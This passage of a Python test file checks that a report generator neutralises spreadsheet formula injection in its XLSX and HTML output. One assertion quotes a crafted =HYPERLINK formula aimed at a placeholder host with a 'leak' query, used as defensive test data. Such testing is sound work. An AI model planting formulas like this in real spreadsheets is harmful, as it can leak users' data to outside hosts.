    dangerous |= {f"-{r}" for r in verdicts.steps["role"].dropna().astype(str)}
    return report, dangerous


def test_neutralize_prefixes_formula_starts_only() -> None:
    assert [neutralize(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", -3, 2.5)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", -3, 2.5,
    ]  # fmt: skip


def test_xlsx_cells_that_start_like_a_formula_are_text(
    formulas: tuple[sopmine.Report, set[str]],
) -> None:
    report, dangerous = formulas
    data = report.to_xlsx()
    book = load_workbook(io.BytesIO(data))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert {c.data_type for c in cells} <= {"s", "inlineStr", "n", "d"}
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(FORMULA_START)] == []
    shown = {t[1:] for t in texts if t.startswith("'")}
    assert dangerous <= shown  # each crafted value is there, with its apostrophe
    risky = {v for frame in report.tables.values() for col in frame for v in frame[col]
             if isinstance(v, str) and v.startswith(FORMULA_START)}  # fmt: skip
    assert risky == shown
    assert not any("<f>" in t or "<f " in t for t in xlsx_xml(data).values())
    numbers = [c.value for c in book["Ringkasan"]["C"][1:]]
    assert all(isinstance(v, int | float) for v in numbers)  # negative numbers stay numbers


def test_html_shows_crafted_values_as_text(formulas: tuple[sopmine.Report, set[str]]) -> None:
    report, _ = formulas
    html = report.to_html()
    assert "=HYPERLINK(&quot;http://example.invalid/?leak&quot;,&quot;klik&quot;)" in html
    assert 'href="http' not in html
